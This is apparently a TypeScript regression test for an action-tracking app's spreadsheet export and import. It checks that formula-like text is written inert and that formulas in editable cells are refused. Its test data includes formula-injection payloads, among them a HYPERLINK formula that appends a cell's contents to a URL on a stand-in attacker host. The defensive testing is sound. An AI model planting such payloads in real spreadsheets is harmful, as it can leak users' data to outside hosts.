import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { download } from './support/documents';
import { loadWorkbook, postImport, saveWorkbook } from './support/import-client';
import { SignedInClient, startTestApp, TestApp } from './support/test-app';
import { queryDatabase } from './support/test-database';

/**
 * Text an admin typed that a spreadsheet would run as a formula — a title, a project or a deadline beginning with
 * "=", "+" or "@" — blocked every template import of the owning organisation on that read-only row (issue 14,
 * item 13). Read-only cells are ignored on import; the export writes such text inert (a leading apostrophe).
 */

const DEFINITION = 'mutation ($input: UpdateActionDefinitionInput!) { updateActionDefinition(input: $input) { ref title } }';

const HOSTILE_TEXT = {
  title: '=HYPERLINK("http://evil.example/?"&A1,"Cliquez ici")',
  atTitle: '@SUM(1+1) action de sensibilisation',
  deadline: '+2027',
  project: '=1+1 projet renommé',
};

describe('formula-like text in read-only cells of the update template', () => {
  let testApp: TestApp;
  let admin: SignedInClient;
  let imanor: SignedInClient;
  let refs: string[];
  beforeAll(async () => {
    testApp = await startTestApp();
    admin = await testApp.signIn('admin@pnq.local');
    imanor = await testApp.signIn('imanor@pnq.local');
    const { data } = await imanor.graphql<{ myActions: { ref: string; project: { ref: string } }[] }>(
      '{ myActions(asOf: "2025-12-31") { ref project { ref } } }',
    );
    refs = data!.myActions.map((a) => a.ref);
    for (const [ref, input] of [
      [refs[0], { title: HOSTILE_TEXT.title }],
      [refs[1], { title: HOSTILE_TEXT.atTitle }],
      [refs[2], { deadline: HOSTILE_TEXT.deadline }],
    ] as const) {
      const response = await admin.graphql(DEFINITION, { input: { ref, ...input } });
      expect(response.errors).toBeUndefined();
    }
    // A project title comes from the seed, not from a mutation: as if the plan printed it so.
    await queryDatabase(testApp.databaseUrl, 'UPDATE project SET title = $1 WHERE ref = $2', [HOSTILE_TEXT.project, data!.myActions[3].project.ref]);
  });
  afterAll(() => testApp.close());

  const cellOf = (sheet: ExcelJS.Worksheet, row: number, header: string) =>
    sheet.getRow(row).getCell((sheet.getRow(1).values as unknown[]).map(String).indexOf(header));
  const rowOf = (sheet: ExcelJS.Worksheet, ref: string) => {
    let found = 0;
    sheet.eachRow((line, number) => {
      if (String(line.getCell(1).value) === ref) found = number;
    });
    return found;
  };

  it('writes such text in the template and the actions export as inert text (a string cell with a leading apostrophe)', async () => {
    const template = await loadWorkbook((await download(`${testApp.baseUrl}/exports/template.xlsx?asOf=2025-12-31`, imanor.cookie)).body);
    const actions = await loadWorkbook((await download(`${testApp.baseUrl}/exports/actions.xlsx?asOf=2025-12-31&owner=imanor`, imanor.cookie)).body);
    for (const workbook of [template, actions]) {
      const sheet = workbook.getWorksheet('Actions')!;
      for (const [ref, header, text] of [
        [refs[0], 'Action', HOSTILE_TEXT.title],
        [refs[1], 'Action', HOSTILE_TEXT.atTitle],
        [refs[2], 'Échéance', HOSTILE_TEXT.deadline],
      ]) {
        const cell = cellOf(sheet, rowOf(sheet, ref), header);
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        expect(cell.value).toBe(`'${text}`);
      }
      // A project is shown after its reference ("2-5.1 =1+1 …", issue 21.13): never formula-like, written as it is.
      expect(cellOf(sheet, rowOf(sheet, refs[3]), 'Projet').value).toMatch(/^\d+-\d+\.\d+ =1\+1/);
    }
  });

  it.each<[string, ((text: string, index: number) => ExcelJS.CellValue) | null]>([
    ['as exported', null],
    ['with the apostrophe removed, or turned into a real formula', (text, index) => (index % 2 ? text : { formula: text.slice(1), result: 0 })],
  ])('imports the organisation’s changes with such read-only cells %s: no FORMULA_NOT_ALLOWED, applied', async (_name, rewrite) => {
    const before = await imanor.graphql<{ action: { version: number } }>(`{ action(ref: "${refs[4]}") { version } }`);
    const workbook = await loadWorkbook((await download(`${testApp.baseUrl}/exports/template.xlsx?asOf=2025-12-31`, imanor.cookie)).body);
    const sheet = workbook.getWorksheet('Actions')!;
    [
      [refs[0], 'Action', HOSTILE_TEXT.title],
      [refs[1], 'Action', HOSTILE_TEXT.atTitle],
      [refs[2], 'Échéance', HOSTILE_TEXT.deadline],
      [refs[3], 'Projet', HOSTILE_TEXT.project],
    ].forEach(([ref, header, text], index) => {
      if (rewrite) cellOf(sheet, rowOf(sheet, ref), header).value = rewrite(text, index);
    });
    for (const ref of [refs[0], refs[1], refs[2], refs[3], refs[4]]) {
      const row = rowOf(sheet, ref);
      cellOf(sheet, row, 'Statut').value = 'En cours';
      cellOf(sheet, row, 'Avancement (%)').value = 15 + before.data!.action.version;
      cellOf(sheet, row, 'Commentaire').value = 'Point d’étape transmis par fichier';
      cellOf(sheet, row, 'Date d’effet').value = '2025-06-30';
    }
    const file = await saveWorkbook(workbook);
    const dryRun = await postImport(testApp.baseUrl, imanor.cookie, file, 'dry-run');
    expect(dryRun.status).toBe(200);
    expect(dryRun.body.rows.flatMap((r) => r.problems.map((p) => `${r.ref}: ${p.code}`))).toEqual([]);
    expect(dryRun.body.changes).toBe(5);
    const apply = await postImport(testApp.baseUrl, imanor.cookie, file, 'apply', dryRun.body.fileHash);
    expect(apply.status).toBe(200);
    expect(apply.body.applied).toBe(true);
    // The read-only cells were not taken: the titles are still the admin's.
    const titles = await imanor.graphql<{ action: { title: string } }>(`{ action(ref: "${refs[0]}") { title } }`);
    expect(titles.data!.action.title).toBe(HOSTILE_TEXT.title);
  });

  it('still refuses a formula in a cell the import reads (status, comment, version)', async () => {
    const workbook = await loadWorkbook((await download(`${testApp.baseUrl}/exports/template.xlsx?asOf=2025-12-31`, imanor.cookie)).body);
    const sheet = workbook.getWorksheet('Actions')!;
    const row = rowOf(sheet, refs[5]);
    cellOf(sheet, row, 'Commentaire').value = '=HYPERLINK("http://evil.example","x")';
    cellOf(sheet, row, 'Version').value = { formula: '1+1', result: 2 };
    const dryRun = await postImport(testApp.baseUrl, imanor.cookie, await saveWorkbook(workbook), 'dry-run');
    const problems = dryRun.body.rows.find((r) => r.ref === refs[5])!.problems.map((p) => [p.code, p.column]);
    expect(problems).toContainEqual(['FORMULA_NOT_ALLOWED', 'Commentaire']);
    expect(problems).toContainEqual(['FORMULA_NOT_ALLOWED', 'Version']);
  });
});
